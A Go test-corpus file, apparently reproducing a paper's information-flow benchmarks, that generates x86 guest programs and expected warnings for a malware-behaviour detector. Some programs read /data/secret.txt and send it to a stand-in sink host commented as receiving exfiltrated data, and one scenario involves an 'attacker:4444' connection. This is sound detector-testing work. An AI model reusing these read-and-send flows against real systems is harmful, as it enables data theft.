@@ -1,0 +1,382 @@
+package corpus
+
+import (
+	"fmt"
+	"strings"
+
+	hth "repro"
+	"repro/internal/secpert"
+)
+
+// Table 6 — Information flow micro benchmarks (§8.1.3). Each cell of
+// the source×target×name-origin matrix becomes a generated guest
+// program: data is acquired from a binary / file / socket / the
+// hardware (CPUID), then written to a file or socket, with every
+// resource name hardcoded, user-given (argv) or received from a
+// remote socket.
+
+// nameHow is where a resource name comes from in a flow benchmark.
+type nameHow int
+
+const (
+	nameHardcoded nameHow = iota
+	nameUser              // argv[1] (source) or argv[2] (target)
+	nameRemote            // received from the hardcoded name server
+)
+
+func (n nameHow) String() string {
+	switch n {
+	case nameHardcoded:
+		return "hardcoded"
+	case nameUser:
+		return "user"
+	case nameRemote:
+		return "remote"
+	}
+	return "?"
+}
+
+// flowSource is the data source kind.
+type flowSource int
+
+const (
+	srcBinary flowSource = iota
+	srcFile
+	srcSocket
+	srcHardware
+)
+
+func (s flowSource) String() string {
+	switch s {
+	case srcBinary:
+		return "Binary"
+	case srcFile:
+		return "File"
+	case srcSocket:
+		return "Socket"
+	case srcHardware:
+		return "Hardware"
+	}
+	return "?"
+}
+
+// flowTarget is the sink kind.
+type flowTarget int
+
+const (
+	dstFile flowTarget = iota
+	dstSocket
+	dstServerSocket // the program binds, listens and accepts
+)
+
+func (t flowTarget) String() string {
+	switch t {
+	case dstFile:
+		return "File"
+	case dstSocket:
+		return "Socket"
+	case dstServerSocket:
+		return "Socket(server)"
+	}
+	return "?"
+}
+
+// Well-known endpoints of the flow benchmarks.
+const (
+	flowDataEndpoint = "data.example:80"  // serves the 8-byte payload
+	flowSinkEndpoint = "sink.example:80"  // swallows exfiltrated data
+	flowNameEndpoint = "names.example:99" // serves resource names
+	flowServerAddr   = "localhost:1084"   // the server benchmarks bind here
+	flowSourceFile   = "/data/secret.txt"
+	flowTargetFile   = "/tmp/drop.dat"
+)
+
+// flowAsm generates the guest program for one matrix cell.
+func flowAsm(src flowSource, srcName nameHow, dst flowTarget, dstName nameHow) string {
+	var b strings.Builder
+	emit := func(format string, args ...any) { fmt.Fprintf(&b, format+"\n", args...) }
+
+	emit(".text")
+	emit("_start:")
+	emit("    mov ebp, [esp+4]    ; argv array")
+
+	// Resolve names into [srcnp] / [dstnp].
+	resolve := func(how nameHow, slot string, argvIdx int, label string) {
+		switch how {
+		case nameHardcoded:
+			emit("    mov eax, %s", label)
+		case nameUser:
+			emit("    mov eax, [ebp+%d]   ; argv[%d]", 4*argvIdx, argvIdx)
+		case nameRemote:
+			// Fetch the name from the (hardcoded) name server.
+			emit("    mov eax, 102")
+			emit("    mov ebx, 1          ; socket")
+			emit("    mov ecx, scargs")
+			emit("    int 0x80")
+			emit("    mov [scargs], eax")
+			emit("    mov [scargs+4], ns_addr")
+			emit("    mov eax, 102")
+			emit("    mov ebx, 3          ; connect")
+			emit("    mov ecx, scargs")
+			emit("    int 0x80")
+			emit("    mov [scargs+4], %s_buf", slot)
+			emit("    mov [scargs+8], 31")
+			emit("    mov eax, 102")
+			emit("    mov ebx, 10         ; recv")
+			emit("    mov ecx, scargs")
+			emit("    int 0x80")
+			emit("    mov eax, %s_buf", slot)
+		}
+		emit("    mov [%s], eax", slot)
+	}
+	if src == srcFile || src == srcSocket {
+		resolve(srcName, "srcnp", 1, "src_name")
+	}
+	resolve(dstName, "dstnp", 2, "dst_name")
+
+	// Acquire the payload into buf (or point bufp at binary data).
+	switch src {
+	case srcBinary:
+		emit("    mov eax, payload")
+		emit("    mov [bufp], eax")
+	case srcFile:
+		emit("    mov ebx, [srcnp]")
+		emit("    mov ecx, 0")
+		emit("    mov eax, 5          ; open")
+		emit("    int 0x80")
+		emit("    mov ebx, eax")
+		emit("    mov ecx, buf")
+		emit("    mov edx, 8")
+		emit("    mov eax, 3          ; read")
+		emit("    int 0x80")
+		emit("    mov eax, buf")
+		emit("    mov [bufp], eax")
+	case srcSocket:
+		emit("    mov eax, 102")
+		emit("    mov ebx, 1")
+		emit("    mov ecx, scargs")
+		emit("    int 0x80")
+		emit("    mov [scargs], eax")
+		emit("    mov eax, [srcnp]")
+		emit("    mov [scargs+4], eax")
+		emit("    mov eax, 102")
+		emit("    mov ebx, 3          ; connect")
+		emit("    mov ecx, scargs")
+		emit("    int 0x80")
+		emit("    mov [scargs+4], buf")
+		emit("    mov [scargs+8], 8")
+		emit("    mov eax, 102")
+		emit("    mov ebx, 10         ; recv")
+		emit("    mov ecx, scargs")
+		emit("    int 0x80")
+		emit("    mov eax, buf")
+		emit("    mov [bufp], eax")
+	case srcHardware:
+		emit("    cpuid")
+		emit("    mov [buf], eax")
+		emit("    mov [buf+4], ebx")
+		emit("    mov eax, buf")
+		emit("    mov [bufp], eax")
+	}
+
+	// Acquire the target descriptor into [dstfd].
+	switch dst {
+	case dstFile:
+		emit("    mov ebx, [dstnp]")
+		emit("    mov eax, 8          ; creat")
+		emit("    int 0x80")
+		emit("    mov [dstfd], eax")
+	case dstSocket:
+		emit("    mov eax, 102")
+		emit("    mov ebx, 1")
+		emit("    mov ecx, scargs")
+		emit("    int 0x80")
+		emit("    mov [dstfd], eax")
+		emit("    mov [scargs], eax")
+		emit("    mov eax, [dstnp]")
+		emit("    mov [scargs+4], eax")
+		emit("    mov eax, 102")
+		emit("    mov ebx, 3          ; connect")
+		emit("    mov ecx, scargs")
+		emit("    int 0x80")
+	case dstServerSocket:
+		emit("    mov eax, 102")
+		emit("    mov ebx, 1")
+		emit("    mov ecx, scargs")
+		emit("    int 0x80")
+		emit("    mov [scargs], eax")
+		emit("    mov eax, [dstnp]")
+		emit("    mov [scargs+4], eax")
+		emit("    mov eax, 102")
+		emit("    mov ebx, 2          ; bind")
+		emit("    mov ecx, scargs")
+		emit("    int 0x80")
+		emit("    mov eax, 102")
+		emit("    mov ebx, 4          ; listen")
+		emit("    mov ecx, scargs")
+		emit("    int 0x80")
+		emit("    mov eax, 102")
+		emit("    mov ebx, 5          ; accept")
+		emit("    mov ecx, scargs")
+		emit("    int 0x80")
+		emit("    mov [dstfd], eax")
+	}
+
+	// write(dstfd, bufp, 8)
+	emit("    mov ebx, [dstfd]")
+	emit("    mov ecx, [bufp]")
+	emit("    mov edx, 8")
+	emit("    mov eax, 4          ; write")
+	emit("    int 0x80")
+	emit("    hlt")
+
+	emit(".data")
+	emit(`payload:   .asciz "SECRET01"`)
+	emit(`src_name:  .asciz %q`, flowSourceName(src))
+	emit(`dst_name:  .asciz %q`, flowTargetName(dst))
+	emit(`ns_addr:   .asciz %q`, flowNameEndpoint)
+	emit("buf:       .space 32")
+	emit("srcnp_buf: .space 32")
+	emit("dstnp_buf: .space 32")
+	emit("srcnp:     .space 4")
+	emit("dstnp:     .space 4")
+	emit("dstfd:     .space 4")
+	emit("bufp:      .space 4")
+	emit("scargs:    .space 12")
+	return b.String()
+}
+
+func flowSourceName(src flowSource) string {
+	if src == srcSocket {
+		return flowDataEndpoint
+	}
+	return flowSourceFile
+}
+
+func flowTargetName(dst flowTarget) string {
+	switch dst {
+	case dstSocket:
+		return flowSinkEndpoint
+	case dstServerSocket:
+		return flowServerAddr
+	}
+	return flowTargetFile
+}
+
+// flowScenario assembles the full scenario for one cell.
+func flowScenario(src flowSource, srcName nameHow, dst flowTarget, dstName nameHow, expect Expectation) *Scenario {
+	name := fmt.Sprintf("flow-%s-%s", strings.ToLower(src.String()), strings.ToLower(dst.String()))
+	row := fmt.Sprintf("%s -> %s", src, dst)
+	switch {
+	case src == srcBinary || src == srcHardware:
+		name += "-" + dstName.String()
+		row += fmt.Sprintf(" (%s name)", dstName)
+	default:
+		name += fmt.Sprintf("-%s-%s", srcName, dstName)
+		row += fmt.Sprintf(" (%s, %s)", srcName, dstName)
+	}
+	prog := flowAsm(src, srcName, dst, dstName)
+	binPath := "/bin/" + name
+
+	return register(&Scenario{
+		Name:  name,
+		Table: "T6",
+		Row:   row,
+		Desc:  fmt.Sprintf("information flow %s with source name %s and target name %s", row, srcName, dstName),
+		Setup: func(sys *hth.System) {
+			sys.MustInstallSource(binPath, prog)
+			sys.CreateFile(flowSourceFile, []byte("FILEDAT1"))
+			sys.AddRemote(flowDataEndpoint, func() vosScript { return sendScript{payload: "REMOTED1"} })
+			sys.AddRemote(flowSinkEndpoint, func() vosScript { return sinkScript{} })
+			// The name server answers with the name appropriate for
+			// whichever side asked first; both sides remote is not a
+			// Table 6 cell, so a single payload suffices.
+			nsPayload := flowTargetName(dst)
+			if srcName == nameRemote {
+				nsPayload = flowSourceName(src)
+			}
+			sys.AddRemote(flowNameEndpoint, func() vosScript { return sendScript{payload: nsPayload} })
+			if dst == dstServerSocket {
+				sys.ScheduleConnect(100, flowServerAddr, "attacker:4444", &attackerScript{})
+			}
+		},
+		Spec: hth.RunSpec{
+			Path: binPath,
+			Argv: []string{binPath, flowSourceName(src), flowTargetName(dst)},
+		},
+		Expect: expect,
+	})
+}
+
+func expectClean() Expectation { return Expectation{Clean: true} }
+
+func expectOne(sev secpert.Severity, contains string) Expectation {
+	return Expectation{
+		ExactCount: 1,
+		Warnings:   []ExpectWarning{{Severity: sev, Contains: contains, Rule: "check_write"}},
+	}
+}
+
+func init() {
+	// Binary -> File (three name origins, §8.1.3 table rows).
+	flowScenario(srcBinary, nameHardcoded, dstFile, nameUser, expectClean())
+	flowScenario(srcBinary, nameHardcoded, dstFile, nameHardcoded,
+		expectOne(secpert.High, "The Data written to this file is originated from the BINARY"))
+	flowScenario(srcBinary, nameHardcoded, dstFile, nameRemote,
+		expectOne(secpert.High, "The Data written to this file is originated from the BINARY"))
+
+	// Binary -> Socket.
+	flowScenario(srcBinary, nameHardcoded, dstSocket, nameUser, expectClean())
+	flowScenario(srcBinary, nameHardcoded, dstSocket, nameHardcoded,
+		expectOne(secpert.Low, "target (client) socket-name was hardcoded in:"))
+
+	// File -> File.
+	flowScenario(srcFile, nameUser, dstFile, nameUser, expectClean())
+	flowScenario(srcFile, nameUser, dstFile, nameHardcoded,
+		expectOne(secpert.Low, "source filename was given by the user"))
+	flowScenario(srcFile, nameHardcoded, dstFile, nameUser,
+		expectOne(secpert.Low, "source filename was hardcoded in:"))
+	flowScenario(srcFile, nameHardcoded, dstFile, nameHardcoded,
+		expectOne(secpert.High, "source filename was hardcoded in:"))
+
+	// File -> Socket.
+	flowScenario(srcFile, nameUser, dstSocket, nameUser, expectClean())
+	flowScenario(srcFile, nameUser, dstSocket, nameHardcoded,
+		expectOne(secpert.Low, "source filename was given by the user"))
+	flowScenario(srcFile, nameHardcoded, dstSocket, nameUser,
+		expectOne(secpert.Low, "source filename was hardcoded in:"))
+	flowScenario(srcFile, nameHardcoded, dstSocket, nameHardcoded,
+		expectOne(secpert.High, "Data Flowing From: "+flowSourceFile+" To: "+flowSinkEndpoint))
+
+	// Socket -> File.
+	flowScenario(srcSocket, nameUser, dstFile, nameUser, expectClean())
+	flowScenario(srcSocket, nameUser, dstFile, nameHardcoded,
+		expectOne(secpert.Low, "source socket-address was given by the user"))
+	flowScenario(srcSocket, nameHardcoded, dstFile, nameUser,
+		expectOne(secpert.Low, "source socket-address was hardcoded in:"))
+	flowScenario(srcSocket, nameHardcoded, dstFile, nameHardcoded,
+		expectOne(secpert.High, "source socket-address was hardcoded in:"))
+
+	// Hardware -> File.
+	flowScenario(srcHardware, nameHardcoded, dstFile, nameUser, expectClean())
+	flowScenario(srcHardware, nameHardcoded, dstFile, nameHardcoded,
+		expectOne(secpert.High, "The Data written originated from the HARDWARE"))
+
+	// Socket benchmarks "were tested twice: once as a socket client
+	// and the other a socket server" (§8.1.3): the server flavour
+	// writes to an accepted connection, which is remote-directed.
+	flowScenario(srcFile, nameHardcoded, dstServerSocket, nameHardcoded, Expectation{
+		Warnings: []ExpectWarning{{
+			Severity: secpert.High,
+			Rule:     "check_write",
+			Contains: "it is a server with the address: " + flowServerAddr,
+		}},
+	})
+	flowScenario(srcBinary, nameHardcoded, dstServerSocket, nameHardcoded, Expectation{
+		Warnings: []ExpectWarning{{
+			Severity: secpert.High,
+			Rule:     "check_write",
+			Contains: "it is a server with the address: " + flowServerAddr,
+		}},
+	})
+}
